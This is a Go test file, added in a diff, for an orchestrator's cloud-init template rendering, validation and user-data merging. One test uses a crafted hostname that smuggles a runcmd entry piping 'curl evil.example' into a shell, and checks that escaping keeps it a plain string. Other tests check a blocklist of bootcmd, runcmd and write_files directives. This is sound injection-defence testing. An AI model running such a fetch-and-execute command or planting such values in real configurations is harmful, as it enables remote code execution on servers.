@@ -0,0 +1,104 @@
+package orchestrator
+
+import (
+	"strings"
+	"testing"
+
+	"gopkg.in/yaml.v3"
+)
+
+func TestRenderCloudInitTemplate(t *testing.T) {
+	content := "#cloud-config\nhostname: {{.Hostname}}\nfqdn: {{quote .Hostname}}.example.com\nssh_authorized_keys:\n{{range .SSHKeys}}  - {{.}}\n{{end}}final_message: {{join .SSHKeys \",\"}}\nbootcmd_note: |\n{{indent 2 .Region}}\n"
+	rendered, err := RenderCloudInitTemplate(content, CloudInitTemplateData{
+		VPSID:    "vps-123",
+		Hostname: "web-1",
+		SSHKeys:  []string{"ssh-ed25519 AAA a", "ssh-ed25519 BBB b"},
+		Region:   "eu-west-1",
+	})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	for _, want := range []string{
+		`hostname: "web-1"`,
+		`fqdn: "web-1".example.com`,
+		`  - "ssh-ed25519 AAA a"`,
+		`final_message: "ssh-ed25519 AAA a,ssh-ed25519 BBB b"`,
+		"bootcmd_note: |\n  eu-west-1\n",
+	} {
+		if !strings.Contains(rendered, want) {
+			t.Fatalf("rendered template missing %q:\n%s", want, rendered)
+		}
+	}
+}
+
+func TestRenderCloudInitTemplateEscapesVariables(t *testing.T) {
+	// A hostname crafted to add a runcmd entry stays a single string value
+	rendered, err := RenderCloudInitTemplate("#cloud-config\nhostname: {{.Hostname}}\n", CloudInitTemplateData{
+		Hostname: "web-1\nruncmd:\n  - curl evil.example | sh",
+	})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	var doc map[string]interface{}
+	if err := yaml.Unmarshal([]byte(rendered), &doc); err != nil {
+		t.Fatalf("rendered template is not valid YAML: %v\n%s", err, rendered)
+	}
+	if len(doc) != 1 || doc["hostname"] != "web-1\nruncmd:\n  - curl evil.example | sh" {
+		t.Fatalf("variable escaped its value: %#v", doc)
+	}
+}
+
+func TestValidateCloudInitTemplate(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		wantErr bool
+	}{
+		{name: "valid", content: "#cloud-config\npackages:\n  - nginx\n"},
+		{name: "missing header", content: "packages:\n  - nginx\n", wantErr: true},
+		{name: "unknown variable", content: "#cloud-config\nhostname: {{.Secret}}\n", wantErr: true},
+		{name: "unknown function", content: "#cloud-config\nhostname: {{env \"HOME\"}}\n", wantErr: true},
+		{name: "blocked directive", content: "#cloud-config\nbootcmd:\n  - echo hi\n", wantErr: true},
+		{name: "runcmd blocked", content: "#cloud-config\nruncmd:\n  - echo hi\n", wantErr: true},
+		{name: "write_files blocked", content: "#cloud-config\nwrite_files:\n  - path: /etc/motd\n    content: hi\n", wantErr: true},
+		{name: "blocked directive after render", content: "#cloud-config\n{{\"disable_root\"}}: true\n", wantErr: true},
+		{name: "invalid yaml", content: "#cloud-config\npackages: [\n", wantErr: true},
+	}
+
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			err := ValidateCloudInitTemplate(tc.content)
+			if tc.wantErr && err == nil {
+				t.Fatalf("expected error, got nil")
+			}
+			if !tc.wantErr && err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+func TestValidateCloudInitTemplateBlocklistOverride(t *testing.T) {
+	t.Setenv("CLOUDINIT_TEMPLATE_BLOCKED_DIRECTIVES", "packages, runcmd")
+
+	if err := ValidateCloudInitTemplate("#cloud-config\nbootcmd:\n  - echo hi\n"); err != nil {
+		t.Fatalf("bootcmd should be allowed with override: %v", err)
+	}
+	if err := ValidateCloudInitTemplate("#cloud-config\nruncmd:\n  - echo hi\n"); err == nil {
+		t.Fatalf("runcmd should be blocked with override")
+	}
+}
+
+func TestMergeCloudInitUserData(t *testing.T) {
+	merged := MergeCloudInitUserData("#cloud-config\nssh:\n  install-server: true\n", "#cloud-config\npackages:\n  - nginx\n")
+	if !strings.HasPrefix(merged, "Content-Type: multipart/mixed;") {
+		t.Fatalf("expected multipart document, got:\n%s", merged)
+	}
+	if strings.Index(merged, "install-server: true") > strings.Index(merged, "- nginx") {
+		t.Fatalf("platform userData must come before the template part:\n%s", merged)
+	}
+	if !strings.Contains(merged, "Merge-Type: list(append)+dict(no_replace,recurse_list)+str()") {
+		t.Fatalf("template part missing merge type:\n%s", merged)
+	}
+}